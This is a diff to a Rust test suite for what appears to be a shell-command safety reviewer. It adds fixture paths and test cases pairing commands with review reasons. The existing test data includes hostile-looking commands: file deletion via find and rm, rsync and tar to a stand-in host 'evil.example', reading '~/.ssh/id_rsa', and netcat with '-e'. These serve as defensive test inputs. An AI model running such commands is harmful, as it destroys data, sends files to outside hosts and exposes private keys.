@@ -28,7 +28,9 @@ impl Files for Machine {
 
     fn is_there(&self, path: &str) -> bool {
         let bare = ["/home/dev/project/bare/HEAD", "/home/dev/project/bare/commondir"];
-        path == "/home/dev/project/fixture/.git" || bare.contains(&path)
+        path == "/home/dev/project/fixture/.git"
+            || path == "/home/dev/project/pinned/rust-toolchain.toml"
+            || bare.contains(&path)
     }
 }
 
@@ -339,6 +341,7 @@ fn names_that_a_search_found_are_followed_to_where_they_are_read() {
         ("find /srv -type f -name '*.rs' -delete", "`-delete` of `find` is not reviewed"),
         ("find /srv -type f -name '*.rs' -exec rm {} +", "writes a file whose name is computed"),
         ("rm linked/*", "writes outside of the project"),
+        ("unzip -l '*'", "an archive by a pattern that the program expands"),
         ("tar -tf evil.example:x", "a file that may lie on another machine"),
         ("rsync -a src evil.example:x", "a file that may lie on another machine"),
         ("watch 'cat ~/.ssh/id_rsa'", "`.ssh` is hidden"),
@@ -368,6 +371,10 @@ fn services_are_asked_in_words_that_name_no_host_and_no_file() {
         "command -v anything",
         "nc -z localhost 5432",
         "brew install --help",
+        "cargo --version",
+        "openssl x509 -noout -dates -in cert.pem",
+        "ssh-keygen -l -f key.pub",
+        "ffmpeg -version",
         "env PATH=/usr/bin:/bin ls",
         "tar tvf a.tar",
         "fzf --bind ctrl-a:select-all,ctrl-d:deselect-all",
@@ -409,6 +416,11 @@ fn services_are_asked_in_words_that_name_no_host_and_no_file() {
         "git --git-dir=fixture/.git log",
         "git clean -d",
         "git archive --format=x HEAD",
+        "cd pinned/src && cargo --version",
+        "echo a > rust-toolchain && cargo --version",
+        "cargo tree",
+        "ssh-keygen -y -f key",
+        "ffmpeg -i x.mp4 y.mp4",
         "git archive --remote=x HEAD",
         "nc localhost 5432",
         "nc -z -e x localhost 5432",
